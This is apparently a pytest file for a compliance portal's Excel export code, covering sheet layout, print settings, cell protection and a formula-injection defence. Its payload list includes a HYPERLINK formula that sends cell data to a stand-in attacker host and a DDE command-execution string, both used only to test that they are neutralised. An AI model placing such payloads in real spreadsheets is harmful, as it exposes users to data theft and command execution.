"""The pure XLSX builders (issue 6, items 1, 2 and 3): every workbook read back with openpyxl and with
python-calamine (an independent reader), the raw sheet XML checked for formulas, print settings and
drop-down lists, and the formula-injection rule (security-testing.md T7) as a property."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from python_calamine import CalamineWorkbook, SheetVisibleEnum

from portal.exports import columns as cols
from portal.exports.list_exports import build_audit_export, build_queue_export
from portal.exports.profile_workbook import (
    ActionPlanRow,
    Audience,
    CriterionRow,
    EvidenceItem,
    FacilityRow,
    PartnerRow,
    ProfileWorkbookData,
    ScoreRow,
    build_profile_workbook,
)
from portal.exports.questionnaire import QuestionnaireData, QuestionnaireRow, build_questionnaire
from portal.exports.workbook import FORMULA_TRIGGERS, normalize_newlines, safe_text, unquote_text

EXPORTED = datetime(2026, 5, 2, 14, 3, tzinfo=UTC)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "\x00=1+1"]


def _criterion(cid: str = "1.1", narrative: str = "We screen every partner.", **kwargs: object) -> CriterionRow:
    values: dict[str, object] = dict(
        id=cid, focus_area="Corporate Security", category="1. Security Vision and Responsibility", level="Must",
        title="Security vision", requirement="The company has a written security vision.", status="Implemented",
        narrative=narrative, justification="",
        evidence=(EvidenceItem(cid, "Security policy 2024", "policy.pdf", 1234, "ab" * 32),),
        action_plans=("Open, due 2026-09-01, Evan Employee: write the policy",), rating="Meets",
        rating_comment="Seen on site.")
    values.update(kwargs)
    return CriterionRow(**values)  # type: ignore[arg-type]


def profile_data(criteria: list[CriterionRow] | None = None) -> ProfileWorkbookData:
    return ProfileWorkbookData(
        profile_id=7, company="Alpha & Omega Imports Inc.", dba="Alpha", business_type="Importer",
        account_number="CT00001234", account_status="Certified", tier=2,
        identifiers=(("Importer of Record (IOR) number", "36-4812345"),), profile_status="Approved", version=3,
        submitted_at=datetime(2026, 4, 1, 9, 0, tzinfo=UTC), catalog_id="msc-2023", catalog_title="CTPAT MSC 2023",
        content_sha256="cd" * 32, exported_at=EXPORTED,
        dates=(("Certified on", date(2025, 1, 15)), ("Next validation due", date(2026, 1, 15))),
        overall_score=ScoreRow("Overall", "", 91.5, "27.5 of 30 weighted points"),
        scores=(ScoreRow("1. Security Vision and Responsibility", "Corporate Security", 88.0, "22 of 25"),),
        review_status="Decided",
        criteria=criteria if criteria is not None else [_criterion(), _criterion("1.2", level="Should")],
        facilities=[FacilityRow("Cargo-handling facility", "Dock 4", "1 Dock Road", "", "Baltimore", "MD", "21201",
                                "US", "America/New_York", True)],
        partners=[PartnerRow("Carrier One", "Highway carrier", "MX", "SCAC ABCD", "CTPAT", date(2026, 2, 1), "Low",
                             "")],
        action_plans=[ActionPlanRow("1.1", "No written policy", "Write it", "Evan Employee", date(2026, 9, 1), "Open",
                                    False, ("[ ] 2026-06-01 Draft",))],
    )


def build(audience: Audience, data: ProfileWorkbookData | None = None) -> bytes:
    out = io.BytesIO()
    build_profile_workbook(data or profile_data(), audience, out)
    return out.getvalue()


def sheet_xml(content: bytes) -> dict[str, str]:
    """Sheet XML by sheet name (through workbook.xml and its relationships)."""
    package = zipfile.ZipFile(io.BytesIO(content))
    workbook = package.read("xl/workbook.xml").decode()
    rels = package.read("xl/_rels/workbook.xml.rels").decode()
    targets = dict(re.findall(r'Id="(rId\d+)"[^>]*Target="([^"]+)"', rels)) or {
        rid: target for target, rid in re.findall(r'Target="([^"]+)"[^>]*Id="(rId\d+)"', rels)}
    result = {}
    for name, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="(rId\d+)"', workbook):
        target = targets[rid].lstrip("/")
        result[name] = package.read(target if target.startswith("xl/") else f"xl/{target}").decode()
    return result


def no_formula_elements(content: bytes) -> bool:
    package = zipfile.ZipFile(io.BytesIO(content))
    sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
    assert sheets
    return all(re.search(rb"<f[ >/]", package.read(name)) is None for name in sheets)


# -- the safe-cell rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_first_characters_get_an_apostrophe(payload):
    text = safe_text(payload)
    assert text.startswith("'")
    assert text[1] not in "\x00"


def test_harmless_text_is_unchanged():
    for text in ("We screen every partner.", "'quoted", "a=b", "1.5", "", "Ünïcødé – ok"):
        assert safe_text(text) == text


def test_xml_illegal_characters_are_dropped():
    assert safe_text("a\x00b\x07c\td") == "abc\td"


@given(st.text(max_size=300))
def test_the_round_trip_gives_back_the_text(text):
    written = safe_text(text)
    assert not written or written[0] not in FORMULA_TRIGGERS
    # An XML reader gives CRs back as LFs; the importer compares with line endings normalised.
    read_back = normalize_newlines(written)
    assert unquote_text(read_back) == normalize_newlines(ILLEGAL_CHARACTERS_RE.sub("", text))


def test_injection_payloads_stay_text_in_every_sheet():
    criteria = [_criterion(f"1.{n}", narrative=payload, title=payload, rating_comment=payload)
                for n, payload in enumerate(PAYLOADS, start=1)]
    data = profile_data(criteria)
    for audience in Audience:
        content = build(audience, data)
        assert no_formula_elements(content)
        ws = load_workbook(io.BytesIO(content))["Criteria"]
        narratives = [row[7] for row in ws.iter_rows(min_row=2, values_only=True)]
        assert all(value.startswith("'") for value in narratives)
        assert all(cell.data_type == "s" for cell in ws["H"][1:])
        calamine = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Criteria").to_python()
        assert [row[7] for row in calamine[1:]] == narratives
    assert narratives[0] == "'" + PAYLOADS[0]


# -- the profile workbook -----------------------------------------------------------------------------------

SHEETS = ["Summary", "Criteria", "Evidence", "Facilities", "Business partners", "Action plans", "Findings",
          "Visit plan", "_meta"]


def test_cbp_workbook_sheets_headers_and_values_with_both_readers():
    content = build(Audience.CBP)
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == SHEETS
    assert book["_meta"].sheet_state == "hidden"
    assert all(book[name].sheet_state == "visible" for name in SHEETS[:-1])
    criteria = book["Criteria"]
    headers = [c.value for c in criteria[1]]
    assert headers == [c.header for c in cols.CRITERIA]
    assert {"Reviewer rating", "Reviewer comment", "Verified on site", "Visit notes"} <= set(headers)
    first = dict(zip(headers, [c.value for c in criteria[2]], strict=True))
    assert first["ID"] == "1.1" and first["Must/Should"] == "Must" and first["Partner status"] == "Implemented"
    assert first["Evidence (name, SHA-256)"] == f"Security policy 2024 (SHA-256 {'ab' * 32})"
    assert first["Reviewer rating"] == "Meets" and first["Verified on site"] is None
    evidence = [c.value for c in book["Evidence"][2]]
    assert evidence == ["1.1", "Security policy 2024", "policy.pdf", 1234, "ab" * 32]
    assert [c.value for c in book["Facilities"][2]][:3] == ["Cargo-handling facility", "Dock 4", "1 Dock Road"]
    assert book["Business partners"]["A2"].value == "Carrier One"
    assert book["Business partners"]["F2"].value == datetime(2026, 2, 1)
    assert book["Action plans"]["E2"].value == datetime(2026, 9, 1)
    assert [c.value for c in book["Findings"][1]] == [c.header for c in cols.FINDINGS]
    assert [c.value for c in book["Visit plan"][1]] == [c.header for c in cols.VISIT_PLAN]
    summary = {row[0]: row[1:] for row in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Company"][0] == "Alpha & Omega Imports Inc."
    assert summary["Profile version"][0] == "version 3"
    assert summary["Overall score"][:2] == (91.5, "27.5 of 30 weighted points")
    assert summary["Score: 1. Security Vision and Responsibility (Corporate Security)"][0] == 88.0
    meta = {row[0]: row[1] for row in book["_meta"].iter_rows(values_only=True)}
    assert meta["catalog"] == "msc-2023" and meta["profile_version"] == 3
    assert meta["content_sha256"] == "cd" * 32 and meta["exported_at"].startswith("2026-05-02T14:03")

    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert calamine.sheet_names == SHEETS
    visibility = {m.name: m.visible for m in calamine.sheets_metadata}
    assert visibility["_meta"] == SheetVisibleEnum.Hidden and visibility["Criteria"] == SheetVisibleEnum.Visible
    rows = calamine.get_sheet_by_name("Criteria").to_python()
    assert rows[0] == headers
    assert rows[1][0] == "1.1" and rows[1][7] == "We screen every partner."
    assert calamine.get_sheet_by_name("Evidence").to_python()[1][3] == 1234


def test_layout_and_print_settings():
    content = build(Audience.CBP)
    book = load_workbook(io.BytesIO(content))
    for name in SHEETS[:-1]:
        ws = book[name]
        assert ws.freeze_panes == "A2", name
        assert ws.page_setup.orientation == "landscape", name
        # The 15-column Criteria sheet and the 11-column visit plan (with its MRA columns) print two pages
        # across (the first column repeated), the others one.
        wide = name in {"Criteria", "Visit plan"}
        assert ws.page_setup.fitToWidth == (2 if wide else 1) and ws.page_setup.fitToHeight == 0, name
        assert ws.print_title_cols == ("$A:$A" if wide else None), name
        assert ws.page_setup.pageOrder == ("overThenDown" if wide else None), name
        assert ws.sheet_properties.pageSetUpPr.fitToPage, name
        assert ws.print_title_rows == "$1:$1", name
        assert ws.oddFooter.left.text == "Generated 2026-05-02 14:03 UTC, version 3", name
        assert ws.oddFooter.right.text == "Page &P of &N", name
        assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("1A4480"), name
    criteria = book["Criteria"]
    assert criteria.auto_filter.ref == "A1:O3"
    assert criteria.column_dimensions["H"].width == 70
    assert criteria["H2"].alignment.wrap_text
    # "&" is a control character in header/footer codes and must be doubled.
    assert criteria.oddHeader.left.text.startswith("Alpha && Omega Imports Inc.")
    validations = criteria.data_validations.dataValidation
    assert len(validations) == 1
    assert validations[0].type == "list" and validations[0].formula1 == '"Y,N,Partial"'
    assert str(validations[0].sqref) == "N2:N3"
    # The same facts straight from the XML that Excel and LibreOffice read.
    xml = sheet_xml(content)["Criteria"]
    (page_setup,) = re.findall(r"<pageSetup [^>]*>", xml)
    assert 'orientation="landscape"' in page_setup and 'fitToWidth="2"' in page_setup
    assert 'pageOrder="overThenDown"' in page_setup
    assert 'fitToHeight="0"' in page_setup and '<pageSetUpPr fitToPage="1"' in xml
    assert '<pane ySplit="1"' in xml and 'state="frozen"' in xml
    (validation_xml,) = re.findall(r"<dataValidation [^>]*>", xml)
    assert 'type="list"' in validation_xml and 'sqref="N2:N3"' in validation_xml
    assert '<oddFooter>&amp;LGenerated 2026-05-02 14:03 UTC, version 3&amp;RPage &amp;P of &amp;N</oddFooter>' in xml
    workbook_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/workbook.xml").decode()
    assert "_xlnm.Print_Titles" in workbook_xml and "'Criteria'!$1:$1,'Criteria'!$A:$A" in workbook_xml


def test_partner_copy_has_no_cbp_only_columns_or_scores():
    content = build(Audience.PARTNER)
    book = load_workbook(io.BytesIO(content))
    headers = [c.value for c in book["Criteria"][1]]
    assert headers == [c.header for c in cols.CRITERIA if not c.cbp_only]
    assert not {"Reviewer rating", "Reviewer comment", "Verified on site", "Visit notes"} & set(headers)
    assert book["Criteria"].data_validations.dataValidation == []
    fields = [row[0] for row in book["Summary"].iter_rows(min_row=2, values_only=True)]
    assert not any(str(f).startswith(("Score", "Overall score", "Review status")) for f in fields)
    assert {row[0]: row[1] for row in book["_meta"].iter_rows(values_only=True)}["audience"] == "partner"
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert calamine.get_sheet_by_name("Criteria").to_python()[0] == headers
    assert "Meets" not in str(calamine.get_sheet_by_name("Criteria").to_python())


def test_a_draft_and_empty_sheets_still_make_a_valid_workbook():
    base = profile_data([])
    data = ProfileWorkbookData(**{**base.__dict__, "version": 0, "submitted_at": None, "facilities": [],
                                  "partners": [], "action_plans": []})
    content = build(Audience.CBP, data)
    book = load_workbook(io.BytesIO(content))
    assert book["Criteria"].max_row == 1 and book["Criteria"].auto_filter.ref == "A1:O2"
    assert book["Criteria"].oddFooter.left.text.endswith("unsubmitted draft")
    assert CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Findings").to_python() == [
        [c.header for c in cols.FINDINGS]]


# -- the questionnaire ------------------------------------------------------------------------------------


def questionnaire_bytes() -> bytes:
    rows = [QuestionnaireRow("1.1", "1. Security Vision", "Must", "Vision", "Write it.", "implemented", "Implemented",
                             "=we have one", "", 2, "2026-04-01T09:00:00+00:00"),
            QuestionnaireRow("1.2", "1. Security Vision", "Should", "Review", "Review it.", None, "", "", "", 0, "")]
    data = QuestionnaireData(7, "CT00001234", "Alpha Imports", "Importer", "msc-2023", "MSC 2023", 1, EXPORTED,
                             "officer@a.example", rows)
    out = io.BytesIO()
    build_questionnaire(data, "secret", out)
    return out.getvalue()


def test_questionnaire_locks_ids_and_unlocks_answers():
    content = questionnaire_bytes()
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Instructions", "Questionnaire", "_meta"]
    assert book["_meta"].sheet_state == "hidden"
    ws = book["Questionnaire"]
    assert [c.value for c in ws[1]] == [c.header for c in cols.QUESTIONNAIRE]
    assert ws.protection.sheet and not ws.protection.autoFilter
    for row in (2, 3):
        assert all(ws.cell(row, column).protection.locked for column in range(1, 6))
        assert not any(ws.cell(row, column).protection.locked for column in range(6, 9))
    assert ws["F2"].value == "Implemented" and ws["G2"].value == "'=we have one"
    (validation,) = ws.data_validations.dataValidation
    assert validation.formula1 == '"Implemented,Partially implemented,Not implemented,Not applicable"'
    assert str(validation.sqref) == "F2:F3" and validation.showErrorMessage
    meta = {row[0]: row[1] for row in book["_meta"].iter_rows(values_only=True) if row[0]}
    assert meta["profile_id"] == 7 and meta["catalog"] == "msc-2023" and meta["profile_version"] == 1
    assert len(meta["checksum"]) == 64
    assert meta["1.1"] == 2  # the answer versions at download
    assert no_formula_elements(content)
    xml = sheet_xml(content)["Questionnaire"]
    assert re.search(r"<sheetProtection[^>]*sheet=\"1\"", xml)
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    rows = calamine.get_sheet_by_name("Questionnaire").to_python()
    assert rows[1][:2] == ["1.1", "1. Security Vision"] and rows[1][5] == "Implemented"
    assert {m.name: m.visible for m in calamine.sheets_metadata}["_meta"] == SheetVisibleEnum.Hidden


# -- list exports -----------------------------------------------------------------------------------------------


def test_queue_export_reads_back_with_filters_recorded():
    rows = [[n, f"Company {n}", "", "Importer", f"CT{n:08d}", "US", 1, datetime(2026, 4, n, 9, 0, tzinfo=UTC),
             date(2026, 7, n), 30 - n, "No", "Unassigned", "Waiting", ""] for n in range(1, 6)]
    rows.append([6, "=cmd()", "", "Importer", "", "", 1, EXPORTED, date(2026, 8, 1), -3, "Yes", "Riley", "Waiting", ""])
    out = io.BytesIO()
    count = build_queue_export(iter(rows), out, exported_at=EXPORTED, criteria=[("status", "all"), ("q", "Comp")])
    content = out.getvalue()
    assert count == 6 and no_formula_elements(content)
    book = load_workbook(io.BytesIO(content))
    ws = book["Review queue"]
    assert [c.value for c in ws[1]] == [c.header for c in cols.QUEUE]
    assert ws["H2"].value == datetime(2026, 4, 1, 9, 0) and ws["H2"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["B7"].value == "'=cmd()" and ws.auto_filter.ref == "A1:N7"
    assert ws.oddFooter.left.text == "Generated 2026-05-02 14:03 UTC, status all, q Comp"
    meta = {row[0]: row[1] for row in book["_meta"].iter_rows(values_only=True)}
    assert meta["rows"] == 6 and meta["filter.status"] == "all"
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Review queue").to_python()
    assert len(calamine) == 7 and calamine[1][1] == "Company 1" and calamine[6][9] == -3


def test_audit_export_streams_a_generator():
    def events():
        for n in range(1, 1001):
            yield [n, EXPORTED, "admin@cbp.example", None, "auth.login", "User", str(n), "@evil", "127.0.0.1", "r"]

    out = io.BytesIO()
    assert build_audit_export(events(), out, exported_at=EXPORTED) == 1000
    rows = CalamineWorkbook.from_filelike(io.BytesIO(out.getvalue())).get_sheet_by_name("Audit events").to_python()
    assert len(rows) == 1001 and rows[1000][7] == "'@evil"
    assert no_formula_elements(out.getvalue())


def _table_xml(fast: bool) -> str:
    from portal.exports.workbook import Column, ExportWorkbook, PrintSetup, TableSheet

    wb = ExportWorkbook()
    columns = [Column("ID", 7, "text"), Column("Plain", 10), Column("Narrative", 30, "wrap"),
               Column("Verified on site", 11, "input", choices=("Y", "N", "Partial")), Column("Count", 8)]
    sheet = TableSheet(wb, "Criteria", columns, PrintSetup("Title", "Generated"))
    if not fast:
        del sheet.ws._values_to_row   # back to openpyxl's own conversion of appended rows
    sheet.extend([["1.1", "plain", "A long narrative " * 5, None, 3], ["1.2", None, "", "Y", 4.5],
                  ["=1+1", datetime(2026, 5, 2, 14, 3), "x\ny", "", None]])
    sheet.close()
    out = io.BytesIO()
    wb.save(out)
    return sheet_xml(out.getvalue())["Criteria"]


def test_the_fast_row_conversion_writes_what_openpyxl_writes():
    fast, reference = _table_xml(fast=True), _table_xml(fast=False)
    assert '<c r="A4" s=' in fast and 't="inlineStr"' in fast       # the rows are there, styled
    assert fast == reference
